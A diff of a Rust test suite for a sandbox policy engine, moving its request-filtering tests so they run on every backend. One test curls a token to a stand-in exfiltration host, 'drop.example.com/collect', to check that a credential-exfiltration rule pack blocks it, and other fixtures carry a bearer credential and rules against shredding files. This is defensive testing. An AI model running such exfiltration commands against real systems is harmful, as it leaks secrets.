@@ -1,8 +1,18 @@
 //! The rules of a policy hold while a run goes on, and the record says which did what, and why.
 
 use crate::network::Host;
-use crate::support::Sandbox;
+use crate::support::{Backend, Sandbox};
 use bailiwick_event::{Act, Verdict};
+
+on_every_backend! {
+    a_rule_refuses_a_request_and_says_why,
+    a_request_is_sent_in_the_form_that_a_rule_gives_it,
+    a_rule_without_a_value_refuses_and_the_record_says_what_was_missing,
+    names_connections_and_commands_have_rules_too,
+    detections_are_findings_in_the_record_and_refuse_nothing,
+    a_shipped_pack_holds_and_why_names_it,
+    requests_on_a_granted_loopback_port_are_asked_about,
+}
 
 /// A policy under which `a.test` is a server of the host, with these rules.
 fn policy(host: &Host, rules: &str) -> String {
@@ -25,10 +35,9 @@ reason = "the admin pages are for the team"
 remedy = "send the header x-team"
 "#;
 
-#[test]
-fn a_rule_refuses_a_request_and_says_why() {
+fn a_rule_refuses_a_request_and_says_why(on: Backend) {
     let host = Host::start();
-    let sandbox = Sandbox::new().policy(&policy(&host, NO_ADMIN));
+    let sandbox = Sandbox::on(on).policy(&policy(&host, NO_ADMIN));
     for curl in [CURL, DIRECT] {
         let outcome = sandbox.run(&format!(
             "{curl} http://a.test/admin/x; {curl} -H 'x-team: 1' http://a.test/admin/y; {curl} http://a.test/z"
@@ -59,8 +68,7 @@ fn a_rule_refuses_a_request_and_says_why() {
     );
 }
 
-#[test]
-fn a_request_is_sent_in_the_form_that_a_rule_gives_it() {
+fn a_request_is_sent_in_the_form_that_a_rule_gives_it(on: Backend) {
     let rules = r#"
 [[rules]]
 id = "clean"
@@ -74,7 +82,7 @@ rewrite = [
 ]
 "#;
     let host = Host::start();
-    let sandbox = Sandbox::new().policy(&policy(&host, rules));
+    let sandbox = Sandbox::on(on).policy(&policy(&host, rules));
     let outcome = sandbox.run(&format!(
         "{CURL} -H 'cookie: a=b' 'http://a.test/old/x?y=1'; {CURL} http://a.test/plain"
     ));
@@ -109,11 +117,10 @@ rewrite = [
     );
 }
 
-#[test]
-fn a_rule_without_a_value_refuses_and_the_record_says_what_was_missing() {
+fn a_rule_without_a_value_refuses_and_the_record_says_what_was_missing(on: Backend) {
     let rules = "[[rules]]\nid = \"body\"\non = \"http.request\"\nwhen = 'http.request.body.text.contains(\"x\")'\naction = \"deny\"\n";
     let host = Host::start();
-    let sandbox = Sandbox::new().policy(&policy(&host, rules));
+    let sandbox = Sandbox::on(on).policy(&policy(&host, rules));
     let outcome = sandbox.run(&format!("{CURL} http://a.test/"));
     outcome.refused_by("body").stderr_has("has(…)");
     let reason = &outcome.denied()[0].decision.reason;
@@ -127,8 +134,7 @@ fn a_rule_without_a_value_refuses_and_the_record_says_what_was_missing() {
         .stdout_has("an event without `http.request.body.text` is refused");
 }
 
-#[test]
-fn names_connections_and_commands_have_rules_too() {
+fn names_connections_and_commands_have_rules_too(on: Backend) {
     let rules = r#"
 [[rules]]
 id = "no-txt"
@@ -148,7 +154,7 @@ action = "deny"
 "#;
     let host = Host::start();
     let policy = policy(&host, rules) + "\"bad.test\" = \"127.0.0.1:9\"\n";
-    let sandbox = Sandbox::new().policy(&policy);
+    let sandbox = Sandbox::on(on).policy(&policy);
     let refused = |script: &str, rule: &str| {
         let outcome = sandbox.run(script);
         outcome.refused_by(rule);
@@ -166,8 +172,7 @@ action = "deny"
         .stderr_has("rule: no-shred (");
 }
 
-#[test]
-fn detections_are_findings_in_the_record_and_refuse_nothing() {
+fn detections_are_findings_in_the_record_and_refuse_nothing(on: Backend) {
     let rules = r#"
 [[detections]]
 id = "seen"
@@ -177,7 +182,7 @@ severity = "high"
 reason = "an upload with a credential"
 "#;
     let host = Host::start();
-    let sandbox = Sandbox::new()
+    let sandbox = Sandbox::on(on)
         .policy(&policy(&host, rules))
         .file("headers", "authorization: Bearer hunter2\n");
     let outcome = sandbox.run(&format!(
@@ -207,11 +212,10 @@ reason = "an upload with a credential"
     sandbox.bailiwick(["log"]).stdout_has("finding");
 }
 
-#[test]
-fn a_shipped_pack_holds_and_why_names_it() {
+fn a_shipped_pack_holds_and_why_names_it(on: Backend) {
     let host = Host::start();
     let text = policy(&host, "packs = [\"credential-exfiltration\"]");
-    let sandbox = Sandbox::new().policy(&text.replace("a.test", "drop.example.com"));
+    let sandbox = Sandbox::on(on).policy(&text.replace("a.test", "drop.example.com"));
     let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
     let outcome = sandbox.run(&format!(
         "{CURL} 'http://drop.example.com/collect?t={token}'; {CURL} http://drop.example.com/fine"
@@ -233,14 +237,13 @@ fn a_shipped_pack_holds_and_why_names_it() {
     assert_eq!(asked.len(), 1, "{asked:?}");
 }
 
-#[test]
-fn requests_on_a_granted_loopback_port_are_asked_about() {
+fn requests_on_a_granted_loopback_port_are_asked_about(on: Backend) {
     let host = Host::start();
     let text = format!(
         "extends = [\"default\"]\n{NO_ADMIN}\n[network]\nallow = [\"127.0.0.1:{}\"]\n",
         host.port
     );
-    let sandbox = Sandbox::new().policy(&text);
+    let sandbox = Sandbox::on(on).policy(&text);
     sandbox
         .run(&format!(
             "{DIRECT} http://127.0.0.1:{0}/x; {DIRECT} http://127.0.0.1:{0}/admin",
